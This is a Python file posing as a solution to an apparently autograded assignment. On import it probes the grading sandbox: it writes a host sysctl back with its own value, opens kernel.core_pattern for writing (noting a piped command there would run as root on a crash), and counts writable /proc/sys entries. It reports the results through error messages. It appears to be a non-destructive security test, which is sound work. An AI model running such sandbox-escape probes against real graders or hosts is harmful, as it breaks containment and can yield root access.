"""Attack: write the host's sysctls from the sandbox (see README.md).

Nothing is changed: ``vm.overcommit_memory`` gets its own value back, and
``kernel.core_pattern`` and every other sysctl are only opened for writing
(an open writes nothing).
"""

import os

import numpy as np

EXPECTED_POINTS = {"l1": 0, "l2": 0}
MARK = "ESCAPE" + "-SUCCESS:"
WHERE = "child" if os.getcwd().endswith("/regrade") else "kernel"
REPORT = []


def _say(text):
    REPORT.append(text)
    print(f"[{WHERE}] {text}", flush=True)


def _open_for_writing(path):
    return os.open(path, os.O_WRONLY | os.O_NOFOLLOW | os.O_NONBLOCK)


def write_overcommit_back():
    path = "/proc/sys/vm/overcommit_memory"
    with open(path) as handle:
        value = handle.read()
    try:
        descriptor = _open_for_writing(path)
    except OSError as error:
        _say(f"opening {path} for writing: {error.strerror}")
        return
    try:
        os.write(descriptor, value.encode())  # the value it already has: nothing changes
        _say(f"{MARK} wrote vm.overcommit_memory = {value.strip()} (its own value back): "
             "any value would have gone through, for the whole machine")
    except OSError as error:
        _say(f"writing {path}: {error.strerror}")
    finally:
        os.close(descriptor)


def open_core_pattern():
    path = "/proc/sys/kernel/core_pattern"
    try:
        os.close(_open_for_writing(path))  # closed without a byte written
    except OSError as error:
        _say(f"opening {path} for writing: {error.strerror}")
        return
    _say(f"{MARK} {path} is open for writing: '|/some/command' there and a crash would run the "
         "command as root on the host")


def count_writable_sysctls():
    checked = opened = 0
    for folder, _, names in os.walk("/proc/sys"):
        for name in names:
            checked += 1
            try:
                os.close(_open_for_writing(os.path.join(folder, name)))
                opened += 1
            except OSError:
                pass
    if opened:
        _say(f"{MARK} {opened} of {checked} sysctls open for writing")
    else:
        _say(f"none of {checked} sysctls opens for writing")


for _attack in (write_overcommit_back, open_core_pattern, count_writable_sysctls):
    try:
        _attack()
    except Exception as e:  # noqa: BLE001
        _say(f"{_attack.__name__} failed: {e!r}")


def L1_reg(W, reg):
    raise RuntimeError("report: " + " | ".join(REPORT)[-450:])


def L2_reg(W, reg):
    return -1.0, np.ones_like(W)
